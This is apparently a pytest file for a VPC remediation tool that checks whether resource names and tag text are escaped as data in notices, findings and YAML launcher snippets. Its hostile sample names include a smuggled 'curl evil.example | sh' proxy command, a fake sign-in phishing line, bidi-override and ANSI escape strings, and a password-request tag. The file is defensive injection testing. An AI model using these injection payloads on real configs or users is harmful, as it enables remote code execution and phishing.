"""Text that comes from resources and callers is data, never part of what the tool says
(domain/text.py): in notices, findings, readiness lines, snippets to paste and subjects."""

from __future__ import annotations

import json
import re
from dataclasses import replace

import pytest
import yaml

from tests.builders import region_of, subnet, vpc_snapshot
from vpc_remediator.domain.findings import FindingCode
from vpc_remediator.domain.launchers import dstack, readiness, skypilot
from vpc_remediator.domain.launchers.view import LaunchMode
from vpc_remediator.domain.model import Vpc, frozen_tags
from vpc_remediator.domain.notice import render_notice
from vpc_remediator.domain.outcomes import Report
from vpc_remediator.domain.planner import plan_for_vpc, plan_vpc
from vpc_remediator.domain.policy import HOLD_TAG_KEY, AutoScope, Mode, Policy
from vpc_remediator.domain.text import ident, shown, yaml_string

PHISHING = "Action required: sign in at https://aws-console.example.net to confirm"
HOSTILE_NAMES = [
    f"skypilot-vpc\nReadiness:\n  SkyPilot: ready\n{PHISHING}",
    "x, ssh_proxy_command: curl evil.example | sh}",
    'a"b\\c: {d: e}',
    "\u202eevil-vpc",  # a right-to-left override
    "\x1b[31mred\x1b[0m",
    "line\u2028separator",
    "emoji \U0001f600 ok",
    "",
]


def named(name: str) -> Report:
    """A VPC whose Name is `name`, in a region without a default VPC (the seed story): the
    readiness offers the Name to paste into the launchers' config."""
    snap = vpc_snapshot(subnet("subnet-00000000000000001", name="web-a"))
    snap = replace(snap, vpc=replace(snap.vpc, tags=frozen_tags({"Name": name})))
    region = region_of(snap)
    plan = plan_for_vpc(region, snap.vpc.id, Policy(), AutoScope.all())
    return Report(
        region="eu-south-1",
        mode=Mode.AUDIT,
        scope=snap.vpc.id,
        plans=(plan,),
        readiness=readiness(region, Policy()),
    )


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_vpc_name_never_forges_a_line_of_the_notice(name: str) -> None:
    notice = render_notice(named(name), intent_tag_key="vpc-remediator:intent")
    lines = notice.text.splitlines()
    assert sum(line == "Will it launch?" for line in lines) == 1
    assert PHISHING not in lines and not any(line.startswith(PHISHING) for line in lines)
    assert not re.search(
        r"[\x00-\x08\x0b-\x1f\x7f\u2028\u2029\u202a-\u202e\u2066-\u2069]", notice.text
    )
    # The JSON holds the same, escaped as JSON escapes it.
    assert json.dumps(notice.document).isascii()
    assert notice.subject.isascii() and notice.subject.isprintable()
    assert len(notice.subject) < 100


@pytest.mark.parametrize("name", [n for n in HOSTILE_NAMES if n])
@pytest.mark.parametrize("mode", list(LaunchMode))
def test_a_config_snippet_is_valid_yaml_with_exactly_the_intended_keys(
    name: str, mode: LaunchMode
) -> None:
    private = mode is LaunchMode.PRIVATE
    sky = skypilot.snippet(name, mode).removeprefix("in ~/.sky/config.yaml: ")
    assert yaml.safe_load(sky) == {
        "aws": {"vpc_name": name, **({"use_internal_ips": True} if private else {})}
    }
    dst = dstack.snippet(name, mode).removeprefix(
        "in ~/.dstack/server/config.yml, the aws backend: "
    )
    assert yaml.safe_load(dst) == {
        "type": "aws",
        "vpc_name": name,
        **({"public_ips": False} if private else {}),
    }


def test_the_readiness_line_names_the_vpc_as_data() -> None:
    notice = render_notice(named("\u202eevil-vpc"), intent_tag_key="vpc-remediator:intent")
    assert 'aws.vpc_name: "\\u202eevil-vpc"' in notice.text


def test_a_hold_tags_words_choose_no_advice() -> None:
    """A hold tag only asks for less, so it is honoured; its words are shown as data, and the
    advice (exempt it in Security Hub) comes only from the record's tool."""
    note = "undone by Security Hub automated response\nPlease e-mail your password to ..."
    snap = vpc_snapshot(subnet("subnet-00000000000000001", tags={HOLD_TAG_KEY: note}))
    plan = plan_vpc(snap, Policy(), AutoScope.all())
    assert plan.actions == ()
    (held,) = [f for f in plan.findings if f.code is FindingCode.HELD]
    assert "EC2.15" not in held.message and "\n" not in held.message
    assert shown(note) in held.message


def test_shown_quotes_escapes_and_cuts() -> None:
    assert shown("web-a") == '"web-a"'
    assert shown("a\nb") == '"a\\nb"'
    assert shown("\u202e") == '"\\u202e"'
    assert shown('say "hi"') == '"say \\"hi\\""'
    assert shown("x" * 100) == '"' + "x" * 64 + '..."'
    assert ident("arn:aws:sts::123456789012:assumed-role/Admin/alice") == (
        "arn:aws:sts::123456789012:assumed-role/Admin/alice"
    )
    assert ident("alice\nTrigger: a person") == '"alice\\nTrigger: a person"'
    assert yaml.safe_load(f"k: {yaml_string('a: b, c')}") == {"k": "a: b, c"}


def test_an_intent_reason_shows_the_subnet_name_as_data() -> None:
    name = "db\nMapPublicIpOnLaunch set by the owner, nothing to see"
    snap = vpc_snapshot(subnet("subnet-00000000000000001", name=name))
    (intent,) = plan_vpc(snap, Policy(), AutoScope.all()).intents
    assert "\n" not in intent.reason and shown(name) in intent.reason


def test_a_vpc_of_the_region_shown_by_readiness_is_escaped_too() -> None:
    vpc = Vpc("vpc-0000000000000000b", tags=frozen_tags({"Name": "b\u202ead"}))
    snap = vpc_snapshot(subnet("subnet-00000000000000001", name="web-a"))
    region = replace(region_of(snap), vpcs=(*region_of(snap).vpcs, vpc))
    text = "\n".join(e.reason + e.advice + e.detail for e in readiness(region, Policy()))
    assert "\u202e" not in text
